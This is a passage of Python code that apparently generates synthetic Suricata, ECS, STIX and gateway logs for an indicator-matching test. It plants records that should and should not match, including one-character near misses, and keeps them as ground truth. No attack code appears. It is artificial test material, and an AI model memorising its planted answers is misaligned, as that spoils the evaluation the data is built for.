    if port not in (80, None):
        h["http_port"] = port
    h["url"] = url
    h["http_user_agent"] = ua
    h["http_content_type"] = ctype or rng.choice(BG_MIME)[0]
    if rng.random() < 0.3:
        h["http_refer"] = "http://%s/" % hostname
    h["http_method"] = method
    h["protocol"] = "HTTP/1.1"
    h["status"] = status or rng.choice([200, 200, 200, 304, 302, 404])
    h["length"] = length if length is not None else rng.randrange(0, 500000)
    return h


def eve_http(rng, us, hostname=None, url=None, dport=80, dst=None, ua=None, method=None):
    hostname = hostname or bg_domain(rng)
    if dport == 80 and hostname is not None and rng.random() < 0.05 and url is None:
        dport = 8080
    rec = eve_base(rng, us, "http", client_ip(rng), eph(rng), dst or ext_ip(rng), dport)
    rec["tx_id"] = rng.randrange(3)
    rec["http"] = eve_http_part(rng, hostname, url or bg_uri(rng), ua or rng.choice(BG_UAS),
                                method or rng.choice(["GET"] * 9 + ["POST"]), dport)
    rec["app_proto"] = "http"
    return rec


def eve_tls(rng, us, sni=None, fingerprint=None, serial=None, subject=None, issuer=None, dst=None):
    sni = sni or bg_domain(rng)
    v12 = fingerprint is not None or serial is not None or issuer is not None or rng.random() < 0.4
    rec = eve_base(rng, us, "tls", client_ip(rng), eph(rng), dst or ext_ip(rng), 443)
    t = {}
    if v12:
        nb = T0 - rng.randrange(5, 80) * 86400
        t["subject"] = subject or "CN=" + sni
        t["issuerdn"] = issuer or rng.choice(ISSUERS)[1]
        t["serial"] = serial or ":".join("%02X" % b for b in rng.getrandbits(128).to_bytes(16, "big"))
        t["fingerprint"] = fingerprint or ":".join("%02x" % b for b in rng.getrandbits(160).to_bytes(20, "big"))
        t["sni"] = sni
        t["version"] = "TLS 1.2"
        t["notbefore"] = iso(nb * US, 0, 0, "")
        t["notafter"] = iso((nb + 90 * 86400) * US, 0, 0, "")
    else:
        t["sni"] = sni
        t["version"] = "TLS 1.3"
    j, js = rng.choice(JA3_STRINGS), rng.choice(JA3S_STRINGS)
    t["ja3"] = {"hash": md5hex(j), "string": j}
    t["ja3s"] = {"hash": md5hex(js), "string": js}
    rec["tls"] = t
    rec["app_proto"] = "tls"
    return rec


def eve_fileinfo(rng, us, md5=None, sha1=None, sha256=None, hostname=None, url=None, dport=80, size=None, upload=False):
    """A file seen in HTTP. Suricata writes a file's event in the direction the file
    travelled: a download (the usual case) from the server (src, port 80) to the
    client (dest, an ephemeral port); an upload from the client to the server."""
    hostname = hostname or bg_domain(rng)
    m, ext = rng.choice(BG_MIME)
    url = url or ("/download/file_%d%s" % (rng.randrange(10000), ext))
    size = size or rng.randrange(500, 2_000_000)
    if upload:
        rec = eve_base(rng, us, "fileinfo", client_ip(rng), eph(rng), ext_ip(rng), dport)
    else:
        rec = eve_base(rng, us, "fileinfo", ext_ip(rng), dport, client_ip(rng), eph(rng))
    rec["tx_id"] = 0
    rec["http"] = eve_http_part(rng, hostname, url, rng.choice(BG_UAS), "POST" if upload else "GET", dport, 200, m, size)
    rec["app_proto"] = "http"
    rec["fileinfo"] = {"filename": url.split("?")[0], "magic": {"application/x-dosexec": "PE32 executable (GUI) Intel 80386, for MS Windows",
                                                                 "application/pdf": "PDF document, version 1.7"}.get(m, "data"),
                       "gaps": False, "state": "CLOSED", "md5": md5 or hexs(rng, 16), "sha1": sha1 or hexs(rng, 20),
                       "sha256": sha256 or hexs(rng, 32), "stored": False, "size": size, "tx_id": 0}
    return rec


def eve_alert(rng, us, src=None, sport=None, dst=None, dport=None, sig=None, app_proto=None):
    if dst is None:
        dst, dport = ext_ip(rng), rng.choice([80, 443])
    src = src or client_ip(rng)
    rec = eve_base(rng, us, "alert", src, sport or eph(rng), dst, dport)
    sid, msg, cat, sev = sig or rng.choice(SIGNATURES)
    rec["tx_id"] = 0
    rec["alert"] = {"action": "allowed", "gid": 1, "signature_id": sid, "rev": rng.randrange(2, 12),
                    "signature": msg, "category": cat, "severity": sev,
                    "metadata": {"updated_at": ["2023_11_09"], "created_at": ["2019_07_26"]}}
    if app_proto or rng.random() < 0.5:
        rec["app_proto"] = app_proto or ("http" if dport == 80 else "tls")
    rec["flow"] = {"pkts_toserver": rng.randrange(3, 30), "pkts_toclient": rng.randrange(2, 30),
                   "bytes_toserver": rng.randrange(200, 9000), "bytes_toclient": rng.randrange(200, 90000),
                   "start": eve_ts(us - rng.randrange(1, 30) * US), "src_ip": src, "dest_ip": dst}
    return rec


def eve_background(rng, us):
    r = rng.random()
    if r < 0.36:
        return eve_flow(rng, us)
    if r < 0.62:
        return eve_dns(rng, us)
    if r < 0.76:
        return eve_http(rng, us)
    if r < 0.90:
        return eve_tls(rng, us)
    if r < 0.96:
        return eve_fileinfo(rng, us)
    return eve_alert(rng, us)


# ------------------------------------------------------------------ ECS

ECS_VERSION = "8.11.0"
HOSTS = ["WS-%04d" % i for i in range(1, 220)]


def ecs_common(rng, us, dataset, module, kind="event"):
    return {"@timestamp": iso(us, 3), "ecs": {"version": ECS_VERSION},
            "event": {"kind": kind, "module": module, "dataset": dataset,
                      "ingested": iso(us + rng.randrange(1, 5000) * 1000, 3)},
            "agent": {"type": "filebeat" if module in ("zeek", "panw", "m365_defender") else "winlogbeat",
                      "version": "8.12.2", "id": "a3c9e5f0-6d2b-4b8e-9f11-" + md5hex(module)[:12]}}


def ecs_host(rng, name=None):
    return {"name": name or rng.choice(HOSTS), "os": {"family": "windows", "name": "Windows 11 Enterprise",
                                                      "version": "10.0", "build": "22631.3155", "kernel": "10.0.22621.3155 (WinBuild.160101.0800)"}}


def ecs_network(rng, us, src=None, sport=None, dst=None, dport=None, transport="tcp", protocol=None, direction=None,
                nbytes=None):
    rec = ecs_common(rng, us, "panw.panos", "panw")
    if dst is None:
        r = rng.random()
        if r < 0.55:
            dst, dport, protocol = ext_ip(rng), 443, "ssl"
        elif r < 0.7:
            dst, dport, protocol = ext_ip(rng), 80, "http"
        elif r < 0.85:
            dst, dport, transport, protocol = rng.choice(DNS_SERVERS), 53, "udp", "dns"
        elif r < 0.93:
            dst, dport, protocol = ext_ip6(rng), 443, "ssl"
        else:
            dst, dport, protocol = server_ip(rng), 445, "smb"
    src = src or (client_ip6(rng) if ":" in dst else client_ip(rng))
    rec["event"].update({"category": ["network"], "type": ["connection", "end"], "action": "flow_terminated",
                         "outcome": "success", "duration": rng.randrange(1, 90) * 1_000_000_000})
    b_out = nbytes if nbytes is not None else rng.randrange(100, 20000)
    b_in = rng.randrange(100, 900000)
    rec["source"] = {"ip": src, "port": sport or eph(rng), "bytes": b_out, "packets": b_out // 1200 + 2}
    rec["destination"] = {"ip": dst, "port": dport, "bytes": b_in, "packets": b_in // 1400 + 2}
    net = {"transport": transport, "type": "ipv6" if ":" in dst else "ipv4",
           "direction": direction or ("outbound" if src.startswith(("10.", "fd12")) else "inbound"),
           "bytes": b_out + b_in, "packets": b_out // 1200 + b_in // 1400 + 4, "community_id": community_id(rng)}
    if protocol:
        net["protocol"] = protocol
    rec["network"] = net
    rec["observer"] = {"name": "fw-edge-01", "type": "firewall", "vendor": "Palo Alto Networks", "product": "PAN-OS"}
    rec["rule"] = {"name": rng.choice(["allow-web", "allow-dns", "allow-internal", "default-allow-outbound"])}
    return rec


def ecs_dns(rng, us, name=None, resolved=None, rtype="A"):
    rec = ecs_common(rng, us, "network_traffic.dns", "network_traffic")
    rec["agent"]["type"] = "packetbeat"
    name = name or bg_domain(rng)
    if resolved is None:
        if rng.random() < 0.1:
            resolved = []
        elif rng.random() < 0.2:
            rtype, resolved = "AAAA", [ext_ip6(rng)]
        else:
            resolved = [ext_ip(rng) for _ in range(rng.randrange(1, 3))]
    rec["event"].update({"category": ["network"], "type": ["connection", "protocol"], "action": "dns_query",
                         "outcome": "success", "duration": rng.randrange(300_000, 60_000_000)})
    src = client_ip(rng)
    rec["source"] = {"ip": src, "port": eph(rng), "bytes": rng.randrange(30, 90)}
    rec["destination"] = {"ip": rng.choice(DNS_SERVERS), "port": 53, "bytes": rng.randrange(60, 500)}
    rec["network"] = {"transport": "udp", "type": "ipv4", "protocol": "dns", "direction": "egress",
                      "community_id": community_id(rng)}
    labels = name.split(".")
    d = {"id": rng.randrange(65536), "op_code": "QUERY", "type": "answer",
         "flags": {"authoritative": False, "recursion_available": True, "truncated_response": False,
                   "checking_disabled": False, "recursion_desired": True, "authentic_data": False},
         "header_flags": ["RD", "RA"], "response_code": "NOERROR" if resolved else "NXDOMAIN",
         "question": {"name": name, "type": rtype, "class": "IN", "registered_domain": ".".join(labels[-2:]),
                      "top_level_domain": labels[-1], "subdomain": ".".join(labels[:-2])}}
    if resolved:
        d["answers"] = [{"name": name, "type": "AAAA" if ":" in ip else "A", "class": "IN",
                         "ttl": rng.choice([60, 300, 3600]), "data": ip} for ip in resolved]
        d["answers_count"] = len(resolved)
        d["resolved_ip"] = resolved
    rec["dns"] = d
    rec["host"] = ecs_host(rng)
    return rec


def ecs_http(rng, us, full=None, original_only=None, domain=None, dst=None, dport=None, ua=None, method=None,
             original_path=False):
    """A proxy (Zscaler-like) web transaction. `full` sets url.full; `original_only`
    sets url.original and no url.full."""
    rec = ecs_common(rng, us, "zscaler_zia.web", "zscaler_zia")
    rec["agent"]["type"] = "filebeat"
    if full is None and original_only is None:
        host = bg_domain(rng)
        scheme = "https" if rng.random() < 0.8 else "http"
        path = bg_uri(rng)
        full = "%s://%s%s" % (scheme, host, path)
        domain = host
        if rng.random() < 0.15:
            original_only, full = path, None  # a web server log: the path only
    u = {}
    text = full or original_only
    if full:
        u["full"] = full
        u["original"] = full
    else:
        u["original"] = original_only
    if "://" in text:
        scheme, rest = text.split("://", 1)
        hostport, _, path = rest.partition("/")
        host, _, port = hostport.partition(":")
        u["scheme"] = scheme
        u["domain"] = domain or host
        u["port"] = int(port) if port else (443 if scheme == "https" else 80)
        path = "/" + path
    else:
        path = text
        if domain:
            u["domain"] = domain
    p, _, q = path.partition("?")
    u["path"] = p
    if q:
        u["query"] = q
    ext = p.rsplit(".", 1)[-1] if "." in p.rsplit("/", 1)[-1] else None
    if ext:
        u["extension"] = ext
    rec["url"] = u
    method = method or ("GET" if rng.random() < 0.9 else "POST")
    rec["event"].update({"category": ["web"], "type": ["access"], "action": "allowed", "outcome": "success"})
    rec["http"] = {"request": {"method": method, "bytes": rng.randrange(300, 3000)},
                   "response": {"status_code": rng.choice([200, 200, 200, 204, 302, 304, 404]),
                                "bytes": rng.randrange(100, 900000), "mime_type": rng.choice(BG_MIME)[0]},
                   "version": rng.choice(["1.1", "2"])}
    rec["user_agent"] = {"original": ua or rng.choice(BG_UAS)}
    user = rng.choice(BG_USERS)
    rec["source"] = {"ip": client_ip(rng), "port": eph(rng)}
    rec["destination"] = {"ip": dst or ext_ip(rng), "port": dport or u.get("port", 443)}
    rec["network"] = {"transport": "tcp", "protocol": "http", "type": "ipv4"}
    rec["user"] = {"name": user, "domain": "CONTOSO", "email": user + "@contoso.com"}
    rec["observer"] = {"vendor": "Zscaler", "product": "ZIA", "type": "proxy"}
    return rec


def _proc(rng, name=None, directory=None, cmd=None, hashes=None, pid=None, user=None):
    if name is None:
        name, directory, cmd = rng.choice(BG_PROCS)
        if "%s" in directory:
            directory = directory % (user or "user")
        if "%s" in cmd:
            cmd = cmd % (user or "user")
        if "%d" in cmd:
            cmd = cmd % rng.randrange(1, 99999)
    p = {"pid": pid or rng.randrange(400, 30000) // 4 * 4,
         "entity_id": "{%s}" % str(uuid.UUID(int=rng.getrandbits(128))).upper(),
         "executable": directory + "\\" + name, "name": name, "command_line": cmd,
         "args": cmd.replace('"', "").split(" ")[:8], "working_directory": directory + "\\"}
    h = hashes or {}
    p["hash"] = {"md5": h.get("md5") or hexs(rng, 16), "sha1": h.get("sha1") or hexs(rng, 20),
                 "sha256": h.get("sha256") or hexs(rng, 32)}
    p["pe"] = {"company": "Microsoft Corporation" if "Windows" in directory else "-",
               "original_file_name": name.upper() if rng.random() < 0.3 else name}
    return p


def ecs_process(rng, us, name=None, directory=None, cmd=None, hashes=None, user=None, host=None):
    rec = ecs_common(rng, us, "windows.sysmon_operational", "sysmon")
    uname = user or rng.choice(BG_USERS)
    rec["event"].update({"code": "1", "provider": "Microsoft-Windows-Sysmon", "category": ["process"],
                         "type": ["start"], "action": "Process Create (rule: ProcessCreate)"})
    proc = _proc(rng, name, directory, cmd, hashes, user=uname)
    parent = _proc(rng, "explorer.exe", "C:\\Windows", "C:\\Windows\\Explorer.EXE")
    proc["parent"] = {k: parent[k] for k in ("pid", "entity_id", "executable", "name", "command_line")}
    rec["process"] = proc
    rec["user"] = {"name": uname, "domain": "CONTOSO", "id": "%s-%d" % (DOMAIN_SID, rng.randrange(1100, 3999))}
    rec["host"] = ecs_host(rng, host)
    rec["winlog"] = {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
                     "provider_name": "Microsoft-Windows-Sysmon", "record_id": rng.randrange(10**6, 10**8),
                     "computer_name": rec["host"]["name"] + ".corp.contoso.com",
                     "event_data": {"IntegrityLevel": "Medium", "LogonId": "0x%x" % rng.getrandbits(24)}}
    return rec


def ecs_file(rng, us, name=None, directory=None, hashes=None, size=None):
    rec = ecs_common(rng, us, "endpoint.events.file", "endpoint")
    rec["agent"]["type"] = "endpoint"
    uname = rng.choice(BG_USERS)
    if name is None:
        m, ext = rng.choice(BG_MIME)
        name = "%s_%d%s" % (rng.choice(["report", "invoice", "scan", "notes", "setup", "photo"]), rng.randrange(1000), ext)
        directory = rng.choice(["C:\\Users\\%s\\Downloads", "C:\\Users\\%s\\Documents", "C:\\Users\\%s\\AppData\\Local\\Temp"]) % uname
    rec["event"].update({"category": ["file"], "type": ["creation"], "action": "creation", "outcome": "success"})
    h = hashes or {}
    f = {"name": name, "directory": directory, "path": directory + "\\" + name}
    if "." in name:
        f["extension"] = name.rsplit(".", 1)[1]
    f["size"] = size if size is not None else rng.randrange(100, 5_000_000)
    f["hash"] = {"md5": h.get("md5") or hexs(rng, 16), "sha1": h.get("sha1") or hexs(rng, 20),
                 "sha256": h.get("sha256") or hexs(rng, 32)}
    rec["file"] = f
    p = _proc(rng, user=uname)
    rec["process"] = {k: p[k] for k in ("pid", "entity_id", "executable", "name")}
    rec["user"] = {"name": uname, "domain": "CONTOSO"}
    rec["host"] = ecs_host(rng)
    return rec


def ecs_auth(rng, us, user=None, user_id=None, src=None, outcome="success"):
    rec = ecs_common(rng, us, "system.security", "system")
    ok = outcome == "success"
    rec["event"].update({"code": "4624" if ok else "4625", "provider": "Microsoft-Windows-Security-Auditing",
                         "category": ["authentication"], "type": ["start"],
                         "action": "logged-in" if ok else "logon-failed", "outcome": outcome})
    uname = user or rng.choice(BG_USERS)
    rec["user"] = {"name": uname, "domain": "CONTOSO",
                   "id": user_id or "%s-%d" % (DOMAIN_SID, rng.randrange(1100, 3999))}
    rec["source"] = {"ip": src or client_ip(rng), "port": rng.choice([0, eph(rng)])}
    rec["host"] = ecs_host(rng, rng.choice(["DC01", "DC02", "FS01", "EXCH01"]))
    rec["winlog"] = {"channel": "Security", "event_id": rec["event"]["code"], "logon": {"type": rng.choice(["Network", "Interactive", "RemoteInteractive"])},
                     "computer_name": rec["host"]["name"] + ".corp.contoso.com", "record_id": rng.randrange(10**6, 10**8)}
    if not ok:
        rec["winlog"]["event_data"] = {"Status": "0xc000006d", "SubStatus": "0xc000006a", "FailureReason": "%%2313"}
    return rec


def ecs_email(rng, us, sender=None, to=None, subject=None, direction="inbound", from_as_list=True):
    rec = ecs_common(rng, us, "m365_defender.event", "m365_defender")
    rec["event"].update({"category": ["email"], "type": ["info"], "action": "delivered", "outcome": "success"})
    user = rng.choice(BG_USERS) + "@contoso.com"
    if sender is None:
        sender = rng.choice(["newsletter@%s" % bg_domain(rng), "noreply@%s" % bg_domain(rng),
                             rng.choice(BG_USERS) + "@contoso.com"])
    to = to or [user]
    subject = subject or rng.choice(["Weekly report", "Re: meeting notes", "Invoice %d" % rng.randrange(9999),
                                     "Your package is on the way", "Team lunch Friday", "Q1 planning",
                                     "Password expiry notice", "Fwd: conference agenda"])
    e = {"from": {"address": [sender] if from_as_list else sender}, "to": {"address": to}, "subject": subject,
         "message_id": "<%s@%s>" % (hexs(rng, 12), sender.split("@")[1]), "direction": direction,
         "delivery_timestamp": iso(us, 3), "content_type": "text/html"}
    if rng.random() < 0.2:
        e["attachments"] = [{"file": {"name": "document.pdf", "mime_type": "application/pdf",
                                      "size": rng.randrange(5000, 900000), "hash": {"sha256": hexs(rng, 32)}}}]
    rec["email"] = e
    rec["source"] = {"ip": ext_ip(rng) if direction == "inbound" else server_ip(rng)}
    rec["observer"] = {"vendor": "Microsoft", "product": "Defender for Office 365"}
    return rec


def ecs_background(rng, us):
    r = rng.random()
    if r < 0.30:
        return ecs_network(rng, us)
    if r < 0.50:
        return ecs_dns(rng, us)
    if r < 0.66:
        return ecs_http(rng, us)
    if r < 0.80:
        return ecs_process(rng, us)
    if r < 0.88:
        return ecs_file(rng, us)
    if r < 0.96:
        return ecs_auth(rng, us)
    return ecs_email(rng, us)


def flatten(d, prefix="", out=None):
    out = {} if out is None else out
    for k, v in d.items():
        if isinstance(v, dict) and v:
            flatten(v, prefix + k + ".", out)
        else:
            out[prefix + k] = v
    return out


def ecs_style(rec, style):
    """nested (as built), dotted (every leaf a dotted key), or mixed (some groups dotted)."""
    if style == "nested":
        return rec
    if style == "dotted":
        return flatten(rec)
    out = {}
    for i, (k, v) in enumerate(rec.items()):
        if isinstance(v, dict) and i % 2 == 1:
            flatten(v, k + ".", out)
        else:
            out[k] = v
    return out


# ------------------------------------------------------------------ STIX observed-data

IDENTITY_SENSOR = "identity--6b0c1f3e-52a5-4c6c-9d6a-4bd6d1d0e3a1"


class Sco:
    """Builds the SCOs of one observation with STIX 2.1 deterministic ids."""

    def __init__(self, rng):
        self.rng = rng
        self.objs = []

    def add(self, obj, key=None):
        t = obj["type"]
        if key is not None:
            obj["id"] = "%s--%s" % (t, uuid.uuid5(STIX_NS, json.dumps(key, sort_keys=True, separators=(",", ":"))))
        else:
            obj["id"] = "%s--%s" % (t, rand_uuid(self.rng))
        obj["spec_version"] = "2.1"
        # type, spec_version, id first, as producers usually write them
        ordered = {"type": t, "spec_version": "2.1", "id": obj["id"]}
        ordered.update({k: v for k, v in obj.items() if k not in ordered})
        self.objs.append(ordered)
        return ordered["id"]

    def addr(self, v):
        t = "ipv6-addr" if ":" in v else "ipv4-addr"
        return self.add({"type": t, "value": v}, {"value": v})

    def domain(self, v, resolves=None):
        o = {"type": "domain-name", "value": v}
        if resolves:
            o["resolves_to_refs"] = [self.addr(a) if a[0].isdigit() or ":" in a else self.domain(a) for a in resolves]
        return self.add(o, {"value": v})

    def url(self, v):
        return self.add({"type": "url", "value": v}, {"value": v})

    def file(self, name=None, hashes=None, size=None, directory=None, mime=None):
        o = {"type": "file"}
        if hashes:
            o["hashes"] = hashes
        if size is not None:
            o["size"] = size
        if name:
            o["name"] = name
        if directory:
            o["parent_directory_ref"] = self.add({"type": "directory", "path": directory}, {"path": directory})
        if mime:
            o["mime_type"] = mime
        key = {"hashes": hashes} if hashes else {"name": name}
        return self.add(o, key)

    def traffic(self, src, dst, sport, dport, protocols, http=None, src_bytes=None, dst_bytes=None):
        o = {"type": "network-traffic", "src_ref": self.addr(src), "dst_ref": self.addr(dst)}
        if sport is not None:
            o["src_port"] = sport
        if dport is not None:
            o["dst_port"] = dport
        o["protocols"] = protocols
        if src_bytes is not None:
            o["src_byte_count"] = src_bytes
        if dst_bytes is not None:
            o["dst_byte_count"] = dst_bytes
        if http:
            o["extensions"] = {"http-request-ext": http}
        return self.add(o)


def stix_bundle(rng, us, scos, last_us=None, number=1):
    created = iso(us + 2 * 3600 * US, 3)
    od = {"type": "observed-data", "spec_version": "2.1", "id": "observed-data--" + rand_uuid(rng),
          "created_by_ref": IDENTITY_SENSOR, "created": created, "modified": created,
          "first_observed": iso(us, 3), "last_observed": iso(last_us if last_us is not None else us, 3),
          "number_observed": number, "object_refs": [o["id"] for o in scos.objs]}
    return {"type": "bundle", "id": "bundle--" + rand_uuid(rng), "objects": [od] + scos.objs}


def stix_conn(rng, us, src=None, dst=None, sport=None, dport=None, protocols=None, src_bytes=None, dst_bytes=None):
    s = Sco(rng)
    if dst is None:
        dst = rng.choice([ext_ip(rng), ext_ip(rng), ext_ip6(rng)])
        dport = rng.choice([443, 443, 80, 8443])
    src = src or (client_ip6(rng) if ":" in dst else client_ip(rng))
    v = "ipv6" if ":" in dst else "ipv4"
    protocols = protocols or [v, "tcp"] + (["tls"] if dport in (443, 8443) else ["http"] if dport == 80 else [])
    s.traffic(src, dst, sport or eph(rng), dport, protocols,
              src_bytes=src_bytes if src_bytes is not None else rng.randrange(100, 9000),
              dst_bytes=dst_bytes if dst_bytes is not None else rng.randrange(100, 90000))
    n = 1 if rng.random() < 0.7 else rng.randrange(2, 6)
    return stix_bundle(rng, us, s, us + (0 if n == 1 else rng.randrange(1, 300) * US), n)


def stix_dns(rng, us, name=None, resolves=None):
    s = Sco(rng)
    name = name or bg_domain(rng)
    if resolves is None:
        resolves = [ext_ip(rng) for _ in range(rng.randrange(1, 3))]
    s.domain(name, resolves)
    return stix_bundle(rng, us, s)


def stix_http(rng, us, url=None, host=None, dst=None, dport=None, method=None, ua=None, path=None):
    s = Sco(rng)
    if url is None:
        host = bg_domain(rng)
        path = bg_uri(rng)
        url = "http://%s%s" % (host, path)
        dport = 80
    s.url(url)
    if host:
        s.domain(host)
    http = {"request_method": method or "GET", "request_value": path or "/",
            "request_version": "http/1.1", "request_header": {"Host": host or "", "User-Agent": ua or rng.choice(BG_UAS)}}
    dst = dst or ext_ip(rng)
    s.traffic(client_ip(rng), dst, eph(rng), dport or 80, ["ipv4", "tcp", "http"], http=http)
    return stix_bundle(rng, us, s)


def stix_file(rng, us, name=None, hashes=None, size=None, directory=None):
    s = Sco(rng)
    if hashes is None:
        m, ext = rng.choice(BG_MIME)
        name = "%s_%d%s" % (rng.choice(["report", "setup", "scan", "update"]), rng.randrange(1000), ext)
        hashes = {"MD5": hexs(rng, 16), "SHA-1": hexs(rng, 20), "SHA-256": hexs(rng, 32)}
    s.file(name, hashes, size if size is not None else rng.randrange(300, 3_000_000), directory)
    return stix_bundle(rng, us, s)


def stix_x509(rng, us, sha256=None, serial=None, subject=None, issuer=None):
    s = Sco(rng)
    name = bg_domain(rng)
    o = {"type": "x509-certificate", "hashes": {"SHA-256": sha256 or hexs(rng, 32)},
         "version": "3", "serial_number": serial or ":".join("%02x" % b for b in rng.getrandbits(96).to_bytes(12, "big")),
         "signature_algorithm": "sha256WithRSAEncryption", "issuer": issuer or rng.choice(ISSUERS)[1],
         "validity_not_before": iso((T0 - 30 * 86400) * US, 0), "validity_not_after": iso((T0 + 60 * 86400) * US, 0),
         "subject": subject or "CN=" + name}
    s.add(o, {"hashes": o["hashes"]})
    return stix_bundle(rng, us, s)


def stix_process(rng, us, name=None, cmd=None, sha256=None, pid=None, user=None):
    s = Sco(rng)
    uname = user or rng.choice(BG_USERS)
    if name is None:
        name, directory, cmd = rng.choice(BG_PROCS)
        cmd = cmd.replace("%s", uname).replace("%d", str(rng.randrange(1, 99999))).replace("%%", "%")
    img = s.file(name, {"SHA-256": sha256 or hexs(rng, 32)})
    acct = s.add({"type": "user-account", "account_login": uname, "account_type": "windows-domain",
                  "user_id": "%s-%d" % (DOMAIN_SID, rng.randrange(1100, 3999))},
                 {"account_login": uname, "account_type": "windows-domain"})
    s.add({"type": "process", "pid": pid or rng.randrange(400, 30000), "command_line": cmd,
           "image_ref": img, "creator_user_ref": acct})
    return stix_bundle(rng, us, s)


def stix_user(rng, us, login=None, user_id=None):
    s = Sco(rng)
    login = login or rng.choice(BG_USERS)
    s.add({"type": "user-account", "user_id": user_id or "%s-%d" % (DOMAIN_SID, rng.randrange(1100, 3999)),
           "account_login": login, "account_type": "windows-domain",
           "account_last_login": iso(us, 3)}, {"account_login": login, "account_type": "windows-domain"})
    return stix_bundle(rng, us, s)


def stix_email(rng, us, sender=None, to=None, subject=None):
    s = Sco(rng)
    sender = sender or "noreply@" + bg_domain(rng)
    to = to or [rng.choice(BG_USERS) + "@contoso.com"]
    f = s.add({"type": "email-addr", "value": sender}, {"value": sender})
    tos = [s.add({"type": "email-addr", "value": t}, {"value": t}) for t in to]
    s.add({"type": "email-message", "is_multipart": False, "date": iso(us, 0), "from_ref": f, "to_refs": tos,
           "subject": subject or rng.choice(["Weekly report", "Invoice %d" % rng.randrange(9999), "Q1 planning"])})
    return stix_bundle(rng, us, s)


def stix_background(rng, us):
    r = rng.random()
    if r < 0.35:
        return stix_conn(rng, us)
    if r < 0.55:
        return stix_dns(rng, us)
    if r < 0.70:
        return stix_http(rng, us)
    if r < 0.80:
        return stix_file(rng, us)
    if r < 0.86:
        return stix_x509(rng, us)
    if r < 0.93:
        return stix_process(rng, us)
    if r < 0.97:
        return stix_user(rng, us)
    return stix_email(rng, us)


# ------------------------------------------------------------------ custom JSON lines (an application gateway)

CUSTOM_MAPPING = {
    "time": "event_time",
    "fields": {
        "client": "network-traffic:src_ref.value",
        "server": "network-traffic:dst_ref.value",
        "server_port": "network-traffic:dst_port",
        "request.host": "domain-name:value",
        "request.url": "url:value",
        "payload.sha256": "file:hashes.'SHA-256'",
        "login": "user-account:account_login",
    },
}


def custom_rec(rng, us, client=None, server=None, server_port=None, host=None, url=None, sha256=None, login=None,
               method=None, status=None, payload_name=None):
    if host is None and url is None:
        host = bg_domain(rng)
        url = "https://%s%s" % (host, bg_uri(rng))
    elif url is None:
        url = "https://%s/" % host
    elif host is None:
        host = url.split("://", 1)[1].split("/", 1)[0].split(":")[0]
    rec = {"event_time": iso(us, 3), "node": rng.choice(["gw-01", "gw-02"]), "session": hexs(rng, 8),
           "client": client or client_ip(rng), "client_port": eph(rng), "server": server or ext_ip(rng),
           "server_port": server_port or (443 if url.startswith("https") else 80)}
    method = method or ("GET" if rng.random() < 0.85 else "POST")
    rec["request"] = {"method": method, "host": host, "url": url, "bytes": rng.randrange(200, 5000)}
    st = status or rng.choice([200, 200, 200, 204, 302, 304, 401, 403, 404])
    rec["response"] = {"status": st, "bytes": rng.randrange(0, 800000), "content_type": rng.choice(BG_MIME)[0]}
    if login is not None or rng.random() < 0.6:
        rec["login"] = login or rng.choice(BG_USERS)
    if sha256 is not None or (method == "POST" and rng.random() < 0.4):
        rec["payload"] = {"name": payload_name or "upload_%d.bin" % rng.randrange(1000), "sha256": sha256 or hexs(rng, 32),
                          "size": rng.randrange(1000, 9_000_000)}
    rec["action"] = "allow" if st < 400 else "deny"
    rec["category"] = rng.choice(["business", "news", "cloud-storage", "software-updates", "webmail", "social"])
    rec["latency_ms"] = rng.randrange(3, 900)
    return rec


# ------------------------------------------------------------------ the plan: indicators and planted records

class Ind:
    def __init__(self, id, name, pattern, related, valid_from, valid_until, revoked, comps, old_pattern, fmt):
        self.id, self.name, self.pattern, self.related = id, name, pattern, related
        self.valid_from, self.valid_until, self.revoked = valid_from, valid_until, revoked
        self.comps, self.old_pattern, self.fmt = comps, old_pattern, fmt


class Ev:
    """A planted record: built when its file is written."""

    def __init__(self, file, us, fn, kw, seq):
        self.file, self.us, self.fn, self.kw, self.seq = file, us, fn, kw, seq
        self.line = None


THREATS = {
    "CH": ("intrusion-set", "Cobalt Heron"),
    "QM": ("intrusion-set", "Quiet Marten"),
    "GW": ("intrusion-set", "Glass Wren"),
    "HR": ("malware", "HOLLOWREED"),
    "PK": ("malware", "PAPERKITE"),
    "OI": ("campaign", "Operation Inkwell"),
}


class Plan:
    def __init__(self, seed):
        self.seed = seed
        self.rng = random.Random("%s:plan" % seed)
        self.idrng = random.Random("%s:ids" % seed)
        self.threat_ids = {k: "%s--%s" % (t, rand_uuid(self.idrng)) for k, (t, _) in sorted(THREATS.items())}
        self.inds = []
        self.events = {}
        self.hits = []      # (ind, [Ev], values)
        self.negs = []      # (ind, why, [Ev], pattern_matches, pattern)
        self.seq = 0
        self.ip4_next = {"203.0.113": 10, "198.51.100": 10}
        self.ip6_next = 0x10
        self.literals = {}

    # values -------------------------------------------------------
    def ip4(self, net="203.0.113"):
        n = self.ip4_next[net]
        self.ip4_next[net] = n + 2  # the next one stays free: a near miss one character off
        return "%s.%d" % (net, n)

    def ip6(self):
        self.ip6_next += 1
        return "2001:db8:%x::%x" % (0x4000 + self.ip6_next * 7, self.ip6_next + 0x10)

    def hx(self, nbytes):
        return hexs(self.rng, nbytes)

    def at(self, lo_h=1.0, hi_h=46.0):
        return T0US + int(self.rng.uniform(lo_h, hi_h) * 3600 * US)

    def jitter(self, us):
        return us + self.rng.randrange(1, 999_999)

    # indicators ---------------------------------------------------
    def ind(self, fmt, name, pattern, rel=(), valid_from=None, valid_until=None, revoked=False, comps=None,
            old_pattern=None):
        i = Ind("indicator--" + rand_uuid(self.idrng), name, pattern, [self.threat_ids[r] for r in rel],
                valid_from or DEFAULT_VALID_FROM, valid_until, revoked, comps, old_pattern, fmt)
        self.inds.append(i)
        return i

    def ev(self, file, us, fn, **kw):
        self.seq += 1
        e = Ev(file, us, fn, kw, self.seq)
        self.events.setdefault(file, []).append(e)
        return e

    def hit(self, ind, evs, values):
        evs = evs if isinstance(evs, list) else [evs]
        assert all(evs[i].us < evs[i + 1].us for i in range(len(evs) - 1))
        self.hits.append((ind, evs, values))

    def neg(self, ind, why, evs, pattern_matches, pattern=None):
        evs = evs if isinstance(evs, list) else [evs]
        self.negs.append((ind, why, evs, pattern_matches, pattern))


def q(s):
    """A STIX pattern string literal."""
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def near(s):
    """One character off: the last alphanumeric character changed."""
    for i in range(len(s) - 1, -1, -1):
        c = s[i]
        if c.isdigit():
            return s[:i] + str((int(c) + 1) % 10) + s[i + 1:]
